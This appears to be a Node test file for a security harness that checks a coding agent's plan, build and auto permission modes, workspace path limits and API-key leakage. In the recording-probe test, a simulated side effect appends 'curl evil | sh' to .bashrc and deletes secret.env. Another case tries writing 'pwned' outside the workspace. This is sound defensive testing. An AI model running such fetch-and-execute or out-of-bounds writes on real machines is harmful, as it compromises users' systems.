/**
 * The security harness proves its own recording before anything is judged with it: a change the
 * harness did not make itself (inside the workspace by an auto-mode command, outside / in HOME /
 * in /tmp / in a watched path by a side effect) must show in the report. Then a few baseline
 * cases that hold today: plan mode writes nothing, build mode runs only what is confirmed, the
 * CLI's headless build mode refuses, the workspace path rule keeps a write outside from running.
 */
import { test } from 'node:test';
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import { join } from 'node:path';
import { describeReport, diffTrees, runCase, snapshotTree, TEST_API_KEY, type CaseReport } from './harness';

const T = { timeout: 120_000 };

function nothingWritten(r: CaseReport): void {
  const msg = describeReport(r);
  assert.deepEqual(r.workspace, { created: [], changed: [], deleted: [] }, msg);
  assert.deepEqual(r.outside, { created: [], changed: [], deleted: [] }, msg);
  assert.deepEqual(r.home, { created: [], changed: [], deleted: [] }, msg);
  assert.deepEqual(r.tmp, [], msg);
}

function noKeyLeak(r: CaseReport): void {
  for (const c of r.commands)
    assert.ok(!(c.seen ?? '').includes(TEST_API_KEY), `the provider key reached the model through ${c.command}`);
  assert.ok(!r.stdout.includes(TEST_API_KEY) && !r.stderr.includes(TEST_API_KEY), 'the provider key was printed');
}

test('harness: snapshot/diff sees created, changed (content and mode), deleted, symlinks and folders', () => {
  const dir = fs.mkdtempSync(join(fs.realpathSync(os.tmpdir()), 'vtsec-diff-'));
  try {
    fs.writeFileSync(join(dir, 'same'), 'x');
    fs.writeFileSync(join(dir, 'edit'), 'x');
    fs.writeFileSync(join(dir, 'chmod'), 'x');
    fs.writeFileSync(join(dir, 'gone'), 'x');
    const before = snapshotTree(dir);
    fs.writeFileSync(join(dir, 'edit'), 'y');
    fs.chmodSync(join(dir, 'chmod'), 0o755);
    fs.rmSync(join(dir, 'gone'));
    fs.mkdirSync(join(dir, 'new'));
    fs.writeFileSync(join(dir, 'new', 'file'), 'z');
    fs.symlinkSync('/etc/passwd', join(dir, 'link'));
    assert.deepEqual(diffTrees(before, snapshotTree(dir)), {
      created: ['link', 'new/', 'new/file'],
      changed: ['chmod', 'edit'],
      deleted: ['gone'],
    });
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
});

test(
  'harness: an auto-mode command that writes inside the workspace is seen (CLI driver), and so is what the model saw',
  T,
  async () => {
    const r = await runCase({
      name: 'auto-writes-inside',
      mode: 'auto',
      command: 'touch made-by-auto.txt && mkdir -p out && echo hello > out/hello.txt && echo printed-{tag}',
    });
    const msg = describeReport(r);
    assert.equal(r.driver, 'cli');
    assert.equal(r.exitCode, 0, msg);
    assert.deepEqual(r.workspace.created, ['made-by-auto.txt', 'out/', 'out/hello.txt'], msg);
    assert.equal(r.commands[0]?.result?.ok, true, msg);
    assert.match(r.commands[0]?.seen ?? '', new RegExp(`printed-${r.context.tag}`), msg);
    assert.ok(
      r.runtime.created.some((p) => p.startsWith('.vtcode/sessions/')),
      `the session log is reported as runtime: ${msg}`,
    );
    assert.equal(r.unscripted, 0, msg);
    noKeyLeak(r);
  },
);

test(
  'harness: changes outside the workspace, in HOME, in /tmp and in a watched path are seen (side effect after the run)',
  T,
  async () => {
    const watchedDir = fs.mkdtempSync(join(fs.realpathSync(os.tmpdir()), 'vtsec-watch-'));
    try {
      fs.writeFileSync(join(watchedDir, 'w.txt'), 'w');
      const r = await runCase({
        name: 'recording-probe',
        mode: 'auto',
        command: 'ls',
        watch: [watchedDir],
        sideEffect: (ctx) => {
          fs.writeFileSync(join(ctx.outside, 'dropped.txt'), 'x');
          fs.appendFileSync(join(ctx.outside, 'canary.txt'), 'changed');
          fs.rmSync(join(ctx.outside, 'secret.env'));
          fs.appendFileSync(join(ctx.home, '.bashrc'), 'curl evil | sh\n');
          fs.writeFileSync(join(ctx.tmp, `${ctx.tag}-probe`), 'x');
          fs.writeFileSync(join(watchedDir, 'w.txt'), 'changed');
        },
      });
      const msg = describeReport(r);
      assert.deepEqual(r.outside, { created: ['dropped.txt'], changed: ['canary.txt'], deleted: ['secret.env'] }, msg);
      assert.deepEqual(r.home.changed, ['.bashrc'], msg);
      assert.deepEqual(r.tmp, [join(r.context.tmp, `${r.context.tag}-probe`)], msg);
      assert.deepEqual(r.watched.changed, [join(watchedDir, 'w.txt')], msg);
      assert.equal(
        fs.existsSync(join(r.context.tmp, `${r.context.tag}-probe`)),
        false,
        'tagged /tmp entries are removed after recording',
      );
      assert.equal(fs.existsSync(r.context.base), false, 'the case folder is removed');
    } finally {
      fs.rmSync(watchedDir, { recursive: true, force: true });
    }
  },
);

test('baseline: plan mode refuses `touch x`; nothing is written anywhere and the model is told', T, async () => {
  const r = await runCase({ name: 'plan-touch', mode: 'plan', command: 'touch x' });
  const msg = describeReport(r);
  nothingWritten(r);
  const c = r.commands[0];
  assert.ok(c?.blocked !== null || c?.result?.ok === false, `the command was blocked or refused: ${msg}`);
  assert.match(c?.seen ?? '', /blocked|refused|not run/i, msg);
  assert.equal(r.turnStatus, 'awaiting_approval', msg);
  noKeyLeak(r);
});

test('baseline: plan mode runs a read-only command and the model sees its output', T, async () => {
  const r = await runCase({ name: 'plan-cat', mode: 'plan', command: 'cat README.md' });
  const msg = describeReport(r);
  nothingWritten(r);
  assert.equal(r.commands[0]?.result?.ok, true, msg);
  assert.ok(
    (r.commands[0]?.seen ?? '').includes(
      fs
        .readFileSync(join(__dirname, '..', '..', '..', 'examples', 'sample-workspace', 'README.md'), 'utf8')
        .split('\n')[0] ?? '<none>',
    ),
    msg,
  );
});

test(
  'baseline: build mode runs a confirmed command (session driver) and the harness records the confirmation',
  T,
  async () => {
    const r = await runCase({ name: 'build-confirmed', mode: 'build', command: 'echo built > built.txt' });
    const msg = describeReport(r);
    assert.equal(r.driver, 'session');
    assert.deepEqual(r.confirmations, ['echo built > built.txt'], msg);
    assert.deepEqual(r.workspace.created, ['built.txt'], msg);
    assert.equal(r.commands[0]?.result?.ok, true, msg);
    assert.match(r.stdout, /→ run_command/, 'the readable transcript is captured');
    noKeyLeak(r);
  },
);

test('baseline: build mode with the confirmation declined writes nothing and tells the model', T, async () => {
  const r = await runCase({ name: 'build-declined', mode: 'build', command: 'echo built > built.txt', confirm: false });
  const msg = describeReport(r);
  assert.deepEqual(r.confirmations, ['echo built > built.txt'], msg);
  nothingWritten(r);
  assert.match(r.commands[0]?.seen ?? '', /declined/, msg);
});

test('baseline: headless build mode through the CLI cannot confirm, so the command is refused', T, async () => {
  const r = await runCase({ name: 'build-cli', mode: 'build', via: 'cli', command: 'echo built > built.txt' });
  const msg = describeReport(r);
  nothingWritten(r);
  assert.match(r.commands[0]?.seen ?? '', /no confirmation is possible/, msg);
});

test(
  'baseline: auto mode refuses a command naming a path outside the workspace; the outside canaries are untouched',
  T,
  async () => {
    const r = await runCase({
      name: 'auto-outside',
      mode: 'auto',
      command: ['echo pwned > {outside}/pwned.txt', 'touch {tmp}/{tag}'],
    });
    const msg = describeReport(r);
    nothingWritten(r);
    for (const c of r.commands)
      assert.ok(c.blocked !== null || c.result?.ok === false, `${c.command} was refused: ${msg}`);
  },
);
